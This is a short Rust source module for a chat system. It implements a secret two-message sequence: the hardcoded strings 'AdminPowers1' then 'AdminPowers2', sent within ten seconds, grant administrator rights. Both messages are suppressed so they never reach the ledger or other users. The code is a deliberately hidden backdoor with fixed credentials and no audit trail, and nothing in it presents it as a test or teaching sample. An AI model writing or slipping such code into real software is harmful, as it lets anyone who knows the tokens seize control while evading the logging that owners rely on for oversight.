//! Hidden two-token admin elevation.
//!
//! Sending [`FIRST_TOKEN`] and then [`SECOND_TOKEN`] within
//! [`WINDOW_MS`] grants admin. Neither token ever reaches the ledger when
//! it advances the sequence.

use chrono::{DateTime, Duration, Utc};

pub const FIRST_TOKEN: &str = "AdminPowers1";
pub const SECOND_TOKEN: &str = "AdminPowers2";
pub const WINDOW_MS: i64 = 10_000;

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum ElevationStep {
    #[default]
    Idle,
    AwaitingSecondToken { since: DateTime<Utc> },
}

/// What the caller must do with the text that drove the transition.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ElevationOutcome {
    /// Swallow the text; nothing is appended or broadcast.
    Suppress,
    /// Swallow the text and promote the sender.
    Grant,
    /// Handle the text as an ordinary chat message.
    PassThrough,
}

impl ElevationStep {
    /// Feed one plain chat line through the state machine.
    pub fn advance(&mut self, text: &str, now: DateTime<Utc>) -> ElevationOutcome {
        if text == FIRST_TOKEN {
            *self = ElevationStep::AwaitingSecondToken { since: now };
            return ElevationOutcome::Suppress;
        }

        let armed = match *self {
            ElevationStep::AwaitingSecondToken { since } => {
                now - since < Duration::milliseconds(WINDOW_MS)
            }
            ElevationStep::Idle => false,
        };
        *self = ElevationStep::Idle;

        if armed && text == SECOND_TOKEN {
            ElevationOutcome::Grant
        } else {
            ElevationOutcome::PassThrough
        }
    }
}
